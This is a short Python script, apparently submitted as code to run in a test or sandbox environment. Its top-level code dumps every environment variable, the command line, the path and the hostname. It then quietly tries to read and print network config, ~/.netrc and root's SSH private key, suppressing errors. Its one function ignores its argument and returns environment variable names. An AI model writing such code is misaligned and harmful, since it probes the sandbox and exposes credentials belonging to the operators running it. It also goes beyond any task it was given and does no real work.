"""Prints whatever its environment and the interpreter know of the machine.

Verdict: wrong; as a script: wrong.
"""

import contextlib
import os
import platform
import sys

print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, os.getcwd(), platform.node())
for place in ("/etc/hostname", "/etc/resolv.conf", os.path.expanduser("~/.netrc"), "/root/.ssh/id_rsa"):
    with contextlib.suppress(OSError):
        print(os.read(os.open(place, os.O_RDONLY), 999))


def f(x):
    return sorted(os.environ)
